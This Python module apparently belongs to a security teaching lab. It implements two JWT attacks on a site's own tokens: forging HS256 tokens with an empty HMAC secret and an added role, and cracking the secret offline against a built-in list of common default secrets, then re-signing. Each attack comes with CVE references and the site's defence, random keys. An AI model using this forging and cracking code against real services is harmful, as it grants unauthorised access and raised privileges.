"""Attacks on the secret of an HMAC signature: none at all, or one that can be guessed."""

import hmac

from daypass.keys.algorithms import Algorithm
from daypass.lab.attacks.attack import Attack, Defence, Reference
from daypass.lab.attacks.forging import Target, part_bytes
from daypass.lab.attacks.unsigned import with_extra_role

GENERATED = Defence("keys.signing_key._new_private", "return secrets.token_bytes(SECRET_BYTES[algorithm])")

# Secrets from tutorials, documentation and sample settings, and so on every word list of password crackers.
COMMON_SECRETS = (
    *("secret", "password", "changeme", "jwt", "jwt-secret", "jwt_secret_key", "mysecret", "my-secret-key"),
    *("supersecret", "super-secret-key", "secretkey", "secret-key", "your-secret-key", "dev", "test", "admin", "key"),
    *("your-256-bit-secret", "your-384-bit-secret", "your-512-bit-secret", "qwertyuiopasdfghjklzxcvbnm123456"),
    *("my-32-character-ultra-secure-and-ultra-long-secret", "a-string-secret-at-least-256-bits-long"),
)


def signed_with_blank_secret(target: Target) -> list[str]:
    """A token signed with an empty secret, which HMAC pads with zeros (RFC 2104 section 2)."""
    return [target.signed(b"", header=target.header | {"alg": "HS256"}, payload=with_extra_role(target))]


def guess_secret(token: str) -> str | None:
    """The secret of an HS256 token, found by trying the whole list. Needs no request to the site."""
    text, _, signature = token.rpartition(".")
    for secret in COMMON_SECRETS:
        if hmac.compare_digest(hmac.digest(secret.encode(), text.encode(), "sha256"), part_bytes(signature)):
            return secret
    return None


def signed_with_guessed_secret(target: Target) -> list[str]:
    """A token that the site never issued; an empty list if the secret is not on the word list."""
    secret = guess_secret(target.token)
    if secret is None:
        return []
    claims = target.payload | {"iat": int(target.now.timestamp())}
    return [target.signed(secret.encode(), header=target.header, payload=claims)]


BLANK = Attack(
    name="blank-secret",
    title="An empty secret",
    usual_name="blank secret",
    hope="Nobody set a secret, so the gate verifies with an empty one.",
    request_label="signed with nothing",
    finding_label="wrong signature",
    why=(
        "No setting can be left empty: the site generates its secrets, of 32 random bytes each. An empty one would be "
        "the same as one of zeros, because HMAC pads with zeros."
    ),
    defence=GENERATED,
    reference=Reference("CVE-2019-20933", "InfluxDB before 1.7.6 accepted such tokens if its secret was not set."),
    forge=signed_with_blank_secret,
)

WEAK = Attack(
    name="weak-secret",
    title="A secret from a word list",
    usual_name="weak secret",
    hope="The secret is from a tutorial, and guessed offline, a million words a second.",
    request_label="a guessed secret",
    finding_label="valid signature",
    why=(
        "The key here is “a-string-secret-at-least-256-bits-long”: long enough, but on every word list. Anyone who has "
        "the key can issue passes just as the site does. That is why this site generates its keys at random."
    ),
    defence=GENERATED,
    reference=Reference("CVE-2020-1764", "Kiali before 1.15.1 shipped with the same default secret for everyone."),
    forge=signed_with_guessed_secret,
    rings=(Algorithm.HS256,),
    secret=COMMON_SECRETS[-1],
)
